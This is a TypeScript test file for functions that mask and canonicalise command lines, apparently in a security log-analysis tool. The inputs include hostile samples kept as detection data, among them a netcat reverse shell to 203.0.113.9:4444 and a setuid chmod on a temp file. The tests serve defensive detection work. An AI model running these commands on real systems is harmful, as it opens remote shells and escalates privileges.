import { expect, test } from "vitest";
import { canon } from "../../../src/digest/shape/canon.ts";
import { mask } from "../../../src/digest/shape/mask.ts";

test.each([
  ["plain words", "cmd.exe /c whoami", "cmd.exe /c whoami"],
  ["numbers in arguments", "ping 10.0.0.4 -n 5", "ping <internal> -n #"],
  ["switches", "net.ipv4.ip_forward=1 selinux=0", "net.ipv4.ip_forward=1 selinux=0"],
  ["hashes", "rm 9b8d314dd335d8d7eaa1b4bd", "rm *"],
  ["guids", "{6004D249-0957-604D-6019-000000000900}", "{*}"],
  ["times", "at 2021-03-14 06:39:30.227", "at # #"],
  ["SIDs", "HKU\\S-1-5-21-241441452-229284727-1712100601-500\\Run", "HKU\\S-*\\Run"],
  ["temporary names", "\\Windows\\Temp\\RES37C8.tmp", "\\Windows\\Temp\\*.tmp"],
  ["temporary files of mktemp", "cat /tmp/tmp.Xy12345678", "cat /tmp/tmp*"],
  ["pods", "api-7f9c6d5b8a-x2x4z", "api-*"],
  ["names that end in a number", "sha256sum x86_64 eth0", "sha256sum x86_# eth0"],
  ["versions", "python3.9 v1.18.136", "python3.# v1.#"],
  ["addresses", "203.0.113.9:4444 ::1 fe80::1", "<external>:# <loopback> <link-local>"],
  [
    "addresses in version 6",
    "::ffff:10.0.0.1 ::ffff:a00:1 64:ff9b::a00:1 ::ffff:7f00:1 [::1]:22 2001:db8::5",
    "<internal> <internal> <internal> <loopback> [<loopback>]:# <external>",
  ],
  ["no address in an ARN", "arn:aws:iam::123456789012:role/x", "arn:aws:iam::#:role/x"],
  [
    "no address in an ARN without an account",
    "arn:aws:s3:::b arn:aws:s3:::b2",
    "arn:aws:s3:::b arn:aws:s3:::b2",
  ],
  [
    "no address in a name of a program",
    "a::b std::a feed::add B1::c",
    "a::b std::a feed::add B1::c",
  ],
  ["ids of hardware", "00:1a:2b:3c:4d:5e 00:1A:2B:FF:FE:3C:4D:5E", "* *"],
  ["fingerprints", "md5 9d:38:5b:83:a9:17:52:92:56:1a:5e:c4:d4:81:8e:0a", "md5 *"],
  ["times of day", "12:34:56 12:34:56.789 12:34", "# # #"],
  ["numbers that are no address", "256.1.1.1 12:34:56:789", "# #:#:#:#"],
  ["places in a machine room", "at R02-M1-N0-C:J12-U11 R1-a i3-en-us", "at * R1-a i3-en-us"],
  ["hexadecimal", "0x1fffff", "#"],
])("a mask takes out %s", (_what, text, masked) => {
  expect(mask(text)).toBe(masked);
});

test("a mask of a mask changes nothing", () => {
  const text = "runc --log /run/9b8d314dd335d8d7eaa1/log.json 10.0.0.4 5 tmp.Xy12345678";
  expect(mask(mask(text))).toBe(mask(text));
});

test.each([
  ["ids", "runc delete 9b8d314dd335d8d7", "runc delete *"],
  ["long numbers", "strace -p 43485", "strace -p *"],
  ["guids", "x 6004d249-0957-604d-6019-000000000900", "x *"],
])("a canonical text loses %s", (_what, text, canonical) => {
  expect(canon(text)).toBe(canonical);
});

test.each([
  "nc -e /bin/sh 203.0.113.9 4444",
  "chmod 4755 /tmp/x",
  "python3.9 -c 1",
  "reg add x /v y /d 0x00000001",
  "reg add x /v y /d 00000000",
])("a canonical text keeps what behaviours are known by: %s", (text) => {
  expect(canon(text)).toBe(text);
});
